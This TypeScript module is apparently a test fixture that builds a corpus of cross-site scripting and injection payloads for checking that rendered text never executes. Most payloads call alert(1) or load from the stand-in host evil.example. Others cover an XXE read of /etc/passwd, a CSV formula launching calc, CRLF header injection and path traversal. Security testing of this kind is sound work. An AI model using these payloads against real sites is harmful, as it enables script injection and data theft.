/**
 * Texts that would run, load or move something if any part of us took them for more than words (T-XSS). Each cries through `alert` or
 * asks `evil.example` for something; a test that shows them listens to both.
 */

/** What runs where it is taken for HTML. */
const RUNS = [
	"<script>alert(1)</script>",
	"<script src=//evil.example/x.js></script>",
	"<ScRiPt>alert(1)</sCrIpT>",
	"<script/x>alert(1)</script>",
	"<script>alert(1)//",
	"<img src=x onerror=alert(1)>",
	"<img src=//evil.example/i.png>",
	"<img/src/onerror=alert(1)>",
	"<image href=x onerror=alert(1)>",
	"<svg onload=alert(1)>",
	"<svg/onload=alert(1)//",
	"<svg><script>alert(1)</script>",
	"<svg><script href=//evil.example/x.js />",
	"<svg><animate onbegin=alert(1) attributeName=x>",
	"<svg><a xlink:href=javascript:alert(1)><text>x",
	"<svg><use href=//evil.example/u.svg#x>",
	"<svg><foreignObject><body onload=alert(1)>",
	"<math><mtext><img src=x onerror=alert(1)>",
	"<math href=javascript:alert(1)>x",
	"<iframe src=javascript:alert(1)>",
	"<iframe srcdoc='<script>alert(1)</script>'>",
	"<iframe src=//evil.example/f>",
	"<object data=javascript:alert(1)>",
	"<embed src=//evil.example/e>",
	"<video src=x onerror=alert(1)>",
	"<audio src=//evil.example/a.mp3 autoplay>",
	"<body onload=alert(1)>",
	"<details open ontoggle=alert(1)>x",
	"<input autofocus onfocus=alert(1)>",
	"<textarea autofocus onfocus=alert(1)>",
	"<marquee onstart=alert(1)>x",
	"<a href=javascript:alert(1)>x</a>",
	"<a href=//evil.example ping=//evil.example/p>x</a>",
	"<base href=//evil.example/>",
	"<meta http-equiv=refresh content=0;url=//evil.example/>",
	"<link rel=stylesheet href=//evil.example/s.css>",
	"<link rel=prefetch href=//evil.example/p>",
	"<link rel=dns-prefetch href=//evil.example>",
	"<style>@import '//evil.example/s.css';</style>",
	"<style>*{background:url(//evil.example/b.png)}</style>",
	"<form action=//evil.example/><input type=submit id=x>",
	"<button formaction=javascript:alert(1)>x",
	"<template><script>alert(1)</script></template>",
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
	"<b style=animation-name:x onanimationstart=alert(1)>x",
];

/** What gets out of where the words stand: an attribute, a title, a script, a comment. */
const OUT = ["", '">', "'>", "</title>", "</script>", "</textarea>", "-->", "]]>", "</style>", "</svg>"];

/** What is meant for other readers: markdown, scripts, style sheets, XML, templates, decoders. */
const ELSEWHERE = [
	...["[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))"],
	...[
		"[x](data:text/html,<script>alert(1)</script>)",
		"[x](vbscript:alert(1))",
		"[x](<javascript:alert(1)>)",
		"[x](\u0001javascript:alert(1))",
	],
	...["![x](//evil.example/i.png)", "![x](https://evil.example/i.png)", '![x](https://evil.example/i.png" onload="alert(1))'],
	...[
		"[x][1]\n\n[1]: javascript:alert(1)",
		"![x][1]\n\n[1]: https://evil.example/i.png",
		"<javascript:alert(1)>",
		"[![x](https://evil.example/i.png)](https://evil.example)",
	],
	...[
		'[x](https://x.example/"onmouseover="alert(1))',
		"[x](<https://x.example/' onclick='alert(1)>)",
		"[<img src=x onerror=alert(1)>](https://x.example)",
	],
	...[
		"`<img src=x onerror=alert(1)>`",
		'```html"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
		"| <img src=x onerror=alert(1)> |\n|---|\n| x |",
	],
	...[
		"> <img src=x onerror=alert(1)>",
		"1. <img src=x onerror=alert(1)>",
		"# <img src=x onerror=alert(1)>",
		"**<img src=x onerror=alert(1)>**",
	],
	...[
		"<!--<img src=--><img src=x onerror=alert(1)//>",
		"<!--><script>alert(1)</script>",
		"<![CDATA[<script>alert(1)</script>]]>",
		"<?xml version='1.0'?><script>alert(1)</script>",
	],
	...[
		'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
		"<?xml-stylesheet href='javascript:alert(1)'?>",
		"&#60;script&#62;alert(1)&#60;/script&#62;",
	],
	...[
		"&lt;script&gt;alert(1)&lt;/script&gt;",
		"%3Cscript%3Ealert(1)%3C/script%3E",
		"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
		"\\x3cscript\\x3ealert(1)",
	],
	...[
		'";alert(1);//',
		"';alert(1);//",
		"`;alert(1);//",
		"$\u007balert(1)}",
		'"};alert(1);var x={"',
		"\u2028alert(1)//",
		"</script><!--",
		"<!--<script>",
		"*/alert(1)/*",
	],
	...[
		"{{constructor.constructor('alert(1)')()}}",
		"#{alert(1)}",
		"<%= alert(1) %>",
		"{{7*7}}",
		"javascript:alert(1)",
		"data:text/html,<script>alert(1)</script>",
	],
	...[
		'" onmouseover="alert(1)',
		"' onmouseover='alert(1)",
		"` onmouseover=`alert(1)",
		'" autofocus onfocus="alert(1)',
		"x onclick=alert(1)",
		'"/onload="alert(1)',
	],
	...[
		"red;background:url(//evil.example/b.png)",
		"expression(alert(1))",
		"url(javascript:alert(1))",
		'"}*{background:url(//evil.example/b.png)}',
		"@import '//evil.example/s.css'",
	],
	...[
		"//evil.example/x",
		"https://evil.example/x.png",
		"<img src=x onerror=alert(1)\0>",
		"<img\fsrc=x\ronerror=alert(1)>",
		"＜script＞alert(1)＜/script＞",
	],
	...[
		"\u202e<script>alert(1)</script>",
		"<scr\u200bipt>alert(1)</script>",
		"<\0script>alert(1)</script>",
		"<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
	],
	...[
		"<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
		"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	],
	...[
		"<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
		"<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
		"<xmp><img src=x onerror=alert(1)></xmp>",
	],
	...[
		"%c%s%o",
		"\x1b[31mred\x1b[0m",
		"\r\nset-cookie: a=b",
		"\r\n\r\n<script>alert(1)</script>",
		"=cmd|' /C calc'!A0",
		"../../../../etc/passwd",
	],
];

export const PAYLOADS: readonly string[] = [...new Set([...ELSEWHERE, ...OUT.flatMap((out) => RUNS.map((run) => out + run))])];

/** More that gets out of where words stand: for places so small that many of the others do not fit. */
const SMALL_OUT = ['"/>', "'/>", "`>", "</p>", "</h1>", "</a>", "</li>", "</text>", "</option>", "</noscript>", "*/", "&gt;"];

/** Those that fit where a text has at most so many characters: as many as there are of the others. */
export const shortPayloads = (chars: number): readonly string[] =>
	[...new Set([...PAYLOADS, ...SMALL_OUT.flatMap((out) => RUNS.map((run) => out + run))])].filter((text) => text.length <= chars);

/** In so many groups, each with some of every kind. */
export const inGroups = (of: readonly string[], groups: number): string[][] =>
	Array.from({ length: groups }, (_, group) => of.filter((_, i) => i % groups === group));
